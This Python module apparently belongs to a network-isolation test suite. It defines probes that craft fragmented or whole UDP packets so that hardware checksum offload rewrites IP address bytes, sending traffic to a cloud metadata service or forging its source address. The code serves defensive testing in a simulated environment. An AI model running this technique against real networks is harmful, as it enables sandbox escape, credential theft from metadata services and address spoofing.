"""B13: checksums that the attacker leaves to the card, which writes them where it was told, behind every hook.

Of the packet that was judged, two bytes are others on the wire: of where it goes, or of whom it comes from. What they
become is in the attacker's hand, by two bytes at the end of what it sends: it knows what the node makes of a packet on
the way, which is another source address and port, and of an unfinished UDP checksum the part that is about addresses.
The port its accomplice tells it, whom it asks first.

A router in between recomputes nothing of IPv6. Of IPv4 the header has a checksum of its own, so that only what the
node cuts into pieces, and heads anew, survives.
"""

import struct
from collections.abc import Iterator
from functools import partial
from ipaddress import ip_address

import msgspec

from cellwall.attack import frames
from cellwall.attack.probe import Probe, Shot, layers
from cellwall.attack.rows.routed import METADATA
from cellwall.attack.rows.shapes import episode
from cellwall.attack.unfinished import ETHERNET, Unfinished, filling, send_unfinished, summed
from cellwall.attack.world import World

_ACCOMPLICE = {4: "151.101.169.254", 6: "2600:ec2::254"}
"""Where a sandbox may go, but for two bytes a metadata service."""

_FORGED = bytes.fromhex("2001")
_SOURCE, _TARGET = {4: 12, 6: 8}, {4: 16, 6: 24}
_SPORT, _DPORT, _UDP = 20130, 9999, 17

_SETTLED = 0x1357
"""The UDP checksum as the node leaves it: an arbitrary one, since what counts is where the packet goes."""

_FRAGMENT, _PORTS = 8, 8
_FIRST_PIECE = 1400
_LONG = 1600


class _Case(msgspec.Struct, frozen=True):
    """`place`: of the IP header, where the two bytes are written; `cut`: the packet comes in two pieces, and is longer
    than the node's links take."""

    family: int
    place: int
    wanted: bytes
    cut: bool


def _transport(w: World, case: _Case, token: bytes, node_port: int) -> bytes:
    """A UDP datagram that makes the sum, from the place on and behind the node, what it is to be."""
    own, node, target = (
        ip_address(address).packed
        for address in (w.attacker.ip(case.family), w.uplink(case.family), _ACCOMPLICE[case.family])
    )
    payload = token + bytes(len(token) % 2) + bytes(_LONG if case.cut else 0)
    length = 10 + len(payload)
    beyond = (node + target)[case.place - _SOURCE[case.family] :]
    beyond += struct.pack("!HHHH", node_port, _DPORT, length, _SETTLED)
    filler = filling(int.from_bytes(case.wanted, "big"), beyond, payload)
    before = summed(struct.pack("!HH", _SETTLED, 0xFFFF ^ summed(node)), own)
    return struct.pack("!HHHH", _SPORT, _DPORT, length, before) + payload + filler


def _frames(w: World, case: _Case, body: bytes, number: int) -> Iterator[Unfinished]:
    addresses = w.attacker.ip(case.family), _ACCOMPLICE[case.family]
    # Taken together again, an IPv6 packet has no fragment header any more, and the place stays where it was.
    start = case.place + (_FRAGMENT if case.cut and case.family == 6 else 0)
    pieces = ((0, body[:_FIRST_PIECE], True), (_FIRST_PIECE, body[_FIRST_PIECE:], False)) if case.cut else ()
    for offset, data, more in pieces or ((0, body, False),):
        if case.family == 4:
            header = frames.ip(*addresses, proto=_UDP, id=number, flags=int(more), frag=offset // 8)
        elif case.cut:
            s = frames.scapy()
            header = frames.ip(*addresses) / s.IPv6ExtHdrFragment(nh=_UDP, id=number, m=int(more), offset=offset // 8)
        else:
            header = frames.ip(*addresses, proto=_UDP)
        yield Unfinished(frames.frame(w.attacker.mac, w.gateway.mac, header / data), start, 0)


def _node_port(w: World, family: int, token: bytes) -> int:
    """The port that the node gives the flow; 0 where the accomplice hears nothing."""
    asked = b"?" + token
    addresses = w.attacker.ip(family), _ACCOMPLICE[family]
    body = frames.packet(*addresses, "udp", asked, sport=_SPORT, dport=_DPORT)
    sight = w.fire([Shot("attacker", frames.frame(w.attacker.mac, w.gateway.mac, body))])
    heard = next((frame for frame in sight.seen.get("internet", ()) if asked in frame), b"")
    return int.from_bytes(heard[heard.find(asked) - _PORTS :][:2], "big") if heard else 0


def _leads_there(case: _Case, w: World, token: bytes) -> bool:
    view, number = w.ground.views["attacker"], int(token[1:5], 16)
    body = _transport(w, case, token, _node_port(w, case.family, token))
    w.observers.discard()
    send_unfinished(view.host, view.ifname, list(_frames(w, case, body, number)))
    at = ETHERNET + case.place
    seen = w.settle().seen.get("internet", ())
    return any(token in frame and frame[at : at + 2] == case.wanted for frame in seen)


def _probes() -> Iterator[Probe]:
    to, by = "goes to a metadata service", "comes from another's address"
    cases = (
        ("target-v6", f"an IPv6 datagram {to}", 6, _TARGET, False),
        ("target-pieces-v6", f"an IPv6 datagram in pieces {to}", 6, _TARGET, True),
        ("target-pieces-v4", f"an IPv4 datagram in pieces {to}", 4, _TARGET, True),
        ("source-v6", f"an IPv6 datagram {by}", 6, _SOURCE, False),
        ("source-pieces-v4", f"an IPv4 datagram in pieces {by}", 4, _SOURCE, True),
    )
    for name, what, family, places, cut in cases:
        wanted = ip_address(METADATA[family]).packed[:2] if places is _TARGET else _FORGED
        yield episode(
            f"B13-{name}",
            f"{what} once a card has written its checksum",
            layers("CSUM"),
            partial(_leads_there, _Case(family, places[family], wanted, cut)),
            family=family,
        )


PROBES: tuple[Probe, ...] = tuple(_probes())
